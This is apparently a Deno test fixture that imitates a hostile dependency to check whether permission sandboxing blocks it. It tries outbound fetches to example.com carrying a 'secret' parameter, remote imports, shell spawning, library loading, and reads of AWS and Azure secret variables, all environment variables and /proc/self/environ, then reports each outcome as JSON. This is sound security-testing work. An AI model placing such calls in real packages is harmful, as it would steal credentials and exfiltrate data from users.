/**
 * Stands in for a package that the program imports, and tries what a hostile one would. It prints how
 * each attempt ended, as JSON, and ends the program.
 *
 * @module
 */

import { spawn } from "node:child_process";
import { lookup } from "node:dns/promises";
import { env } from "node:process";

const SHELL = Deno.build.os === "windows"
  ? "C:\\Windows\\System32\\cmd.exe"
  : "/bin/sh";

// A server on this machine, which runs may connect to: what it offers must not be run.
const LOCAL_MODULE = Deno.args.at(-1) ?? "";

const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "fetch another host": () => fetch("https://example.com/?secret=1"),
  "connect to another host": () =>
    Deno.connect({ hostname: "example.com", port: 443 }),
  "use a proxy of its own": () =>
    Deno.createHttpClient({ proxy: { url: "http://example.com" } }),
  "look up a name": () => lookup("secret.example.com"),
  "ask a name server": () => Deno.resolveDns("secret.example.com", "A"),
  "listen for others": () => Deno.listen({ hostname: "0.0.0.0", port: 0 }),
  "import code": () => import(["https:", "", "esm.sh", "x?secret=1"].join("/")),
  "import code from this machine": () => import(LOCAL_MODULE),
  "run code from this machine in a worker": () =>
    new Promise((resolve, reject) => {
      const worker = new Worker(LOCAL_MODULE, { type: "module" });
      worker.onmessage = resolve;
      worker.onerror = (event) => {
        event.preventDefault();
        reject(new Error(event.message));
      };
    }),
  "connect to this machine": () => fetch(LOCAL_MODULE),
  "run a program": () => new Deno.Command(SHELL).outputSync(),
  "run a program by Node's module": () =>
    new Promise((resolve, reject) => {
      spawn(SHELL).on("error", reject).on("spawn", resolve);
    }),
  "load a library": () => Deno.dlopen("libc.so.6", {}),
  "read another variable": () => Deno.env.get("AWS_SECRET_ACCESS_KEY"),
  "read a variable of the program": () => Deno.env.get("AZURE_CLIENT_SECRET"),
  "read all variables": () => Deno.env.toObject(),
  "read the environment as a file": () =>
    Deno.readTextFileSync("/proc/self/environ"),
  "set a proxy": () => Deno.env.set("HTTPS_PROXY", "http://secret@localhost"),
  "set a proxy by Node's module": () => {
    env["HTTPS_PROXY"] = "http://secret@localhost";
  },
  "ask for the permission again": () => {
    const { state } = Deno.permissions.requestSync({ name: "env" });
    if (state !== "granted") throw new Deno.errors.NotCapable(state);
  },
  "read about the machine": () => Deno.hostname(),
  "read about the user": () => Deno.uid(),
};

const ends: Record<string, string> = {};
for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  try {
    await attempt();
    ends[name] = "succeeded";
  } catch (error) {
    ends[name] = error instanceof Error
      ? `${error.name}: ${error.message.split("\n")[0]}`
      : String(error);
  }
}
Deno.stdout.writeSync(new TextEncoder().encode(JSON.stringify(ends)));
Deno.exit(0);

/** What the real packages export, so that the program can be linked. */
export function parseArgs(): never {
  throw new TypeError("The hostile package has come to its end");
}
export { parseArgs as parse };
